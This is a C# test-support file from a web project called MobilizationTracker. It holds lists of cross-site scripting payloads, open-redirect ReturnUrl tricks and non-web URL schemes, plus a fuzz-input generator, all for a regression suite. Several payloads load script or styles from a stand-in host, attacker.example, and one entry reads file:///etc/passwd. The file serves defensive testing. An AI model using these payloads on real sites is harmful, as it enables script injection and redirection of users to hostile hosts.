using System.Text;

namespace MobilizationTracker.Web.Tests.Security;

/// <summary>
/// The project's own attack set (issue 8, docs/security.md "Regression suite"): script-injection
/// payloads, open-redirect tricks, URLs that are not web addresses, and a deterministic fuzz corpus
/// generator. Kept small enough to run in seconds; raise <see cref="FuzzCorpus"/>'s count to attack harder.
/// </summary>
internal static class AttackPayloads
{
    public static readonly string[] ScriptInjection =
    [
        "<script>window.__xss=1</script>",
        "<SCRIPT SRC=//attacker.example/x.js></SCRIPT>",
        "<img src=x onerror=\"window.__xss=1\">",
        "<svg onload=window.__xss=1>",
        "<svg><script>window.__xss=1</script></svg>",
        "\"><script>window.__xss=1</script>",
        "'><img src=x onerror=window.__xss=1>",
        "</textarea><script>window.__xss=1</script>",
        "</title><script>window.__xss=1</script>",
        "</mark><script>window.__xss=1</script><mark>",
        "<iframe src=\"javascript:window.__xss=1\"></iframe>",
        "<iframe srcdoc=\"<script>parent.__xss=1</script>\"></iframe>",
        "<a href=\"javascript:window.__xss=1\">click</a>",
        "<body onload=window.__xss=1>",
        "<details open ontoggle=window.__xss=1>",
        "<input autofocus onfocus=window.__xss=1>",
        "<video><source onerror=window.__xss=1></video>",
        "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>",
        "<object data=\"data:text/html,<script>window.__xss=1</script>\"></object>",
        "<embed src=\"javascript:window.__xss=1\">",
        "<link rel=stylesheet href=//attacker.example/x.css>",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:window.__xss=1\">",
        "<base href=\"//attacker.example/\">",
        "<form action=\"//attacker.example\"><button>go</button></form>",
        "<style>@import '//attacker.example/x.css';</style>",
        "\" onmouseover=\"window.__xss=1\" x=\"",
        "' onmouseover='window.__xss=1' x='",
        "{{constructor.constructor('window.__xss=1')()}}",
        "<scr<script>ipt>window.__xss=1</scr</script>ipt>",
        "&lt;script&gt;window.__xss=1&lt;/script&gt;",
        "<img src=\"x\" onerror=\"&#119;indow.__xss=1\">",
        "\u003cscript\u003ewindow.__xss=1\u003c/script\u003e",
    ];

    /// <summary>ReturnUrl values that must never send a signed-in user off the site.</summary>
    public static readonly string[] OpenRedirects =
    [
        "https://attacker.example/",
        "http://attacker.example",
        "//attacker.example",
        "///attacker.example",
        "////attacker.example",
        "/\\attacker.example",
        "\\\\attacker.example",
        "\\/attacker.example",
        "https:attacker.example",
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "/%2F%2Fattacker.example",
        "%2F%2Fattacker.example",
        "/%5Cattacker.example",
        "https://localhost.attacker.example/",
        "https://localhost@attacker.example/",
        " //attacker.example",
        "\t//attacker.example",
        "/ /attacker.example",
        "//attacker.example/%2e%2e",
        "/..//attacker.example",
        "~/../../attacker.example",
        "http://[::1]:80@attacker.example/",
    ];

    /// <summary>Article URLs that are not web addresses: refused at import and in the form.</summary>
    public static readonly string[] NotWebAddresses =
    [
        "javascript:alert(1)",
        "JAVASCRIPT:alert(1)",
        "data:text/html,<b>x</b>",
        "vbscript:msgbox(1)",
        "file:///etc/passwd",
        "ftp://example.org/a.txt",
        "mailto:someone@example.org",
        "//example.org/no-scheme",
    ];

    /// <summary>
    /// A deterministic corpus of hostile article contents (same seed, same inputs): random bytes,
    /// markup torn and nested deep, control and direction characters, false charsets and BOMs,
    /// number soup, payloads in every place. Each input is at most a few KB, so hundreds run in seconds.
    /// </summary>
    public static IEnumerable<byte[]> FuzzCorpus(int count, int seed = 8)
    {
        var random = new Random(seed);
        string[] fragments =
        [
            "<p>", "</p>", "<div>", "</div>", "<article>", "<b>", "<i>", "<table><tr><td>", "<!--", "-->", "<![CDATA[", "]]>",
            "<script>", "</script>", "<style>", "&amp;", "&#x0;", "&#65535;", "&nbsp;", "\u202E", "\u200B", "\uFEFF", "\0", "\r", "\n\n",
            "1,000", "300 000", "1.5 million", "tens of thousands", "up to 10,000", "between 5,000 and 7,000", "99999999999999999999",
            "reservists", "were called up", "according to the ministry", "denied", "Voronezh Oblast", "Москва", "призыв",
            "<meta charset=\"utf-16\">", "<meta charset=\"x-unknown\">", "<time datetime=\"9999-99-99\">", "<script type=\"application/ld+json\">{\"datePublished\":\"",
        ];
        for (var i = 0; i < count; i++)
        {
            switch (i % 5)
            {
                case 0:
                    var bytes = new byte[random.Next(1, 2048)];
                    random.NextBytes(bytes);
                    yield return bytes;
                    break;
                case 1:
                    var depth = random.Next(1, 400);
                    yield return Encoding.UTF8.GetBytes(string.Concat(Enumerable.Repeat("<div><b>", depth)) + "Some 4,000 reservists were called up." + string.Concat(Enumerable.Repeat("</b>", depth / 2)));
                    break;
                case 2:
                    yield return Encoding.UTF8.GetBytes(string.Concat(Enumerable.Range(0, random.Next(5, 200)).Select(_ => fragments[random.Next(fragments.Length)] + " ")));
                    break;
                case 3:
                    var payload = ScriptInjection[random.Next(ScriptInjection.Length)];
                    yield return Encoding.UTF8.GetBytes($"<html><head><title>{payload}</title></head><body><article><h1>{payload}</h1><p>The governor {payload} said that 2,{random.Next(100, 999)} reservists were called up in Voronezh Oblast.</p></article></body></html>");
                    break;
                default:
                    var prefix = new[] { new byte[] { 0xFF, 0xFE }, new byte[] { 0xFE, 0xFF }, new byte[] { 0xEF, 0xBB, 0xBF }, Array.Empty<byte>() }[random.Next(4)];
                    var text = Encoding.Latin1.GetBytes(string.Concat(Enumerable.Range(0, random.Next(10, 300)).Select(_ => (char)random.Next(1, 256))));
                    yield return [.. prefix, .. text];
                    break;
            }
        }
    }
}
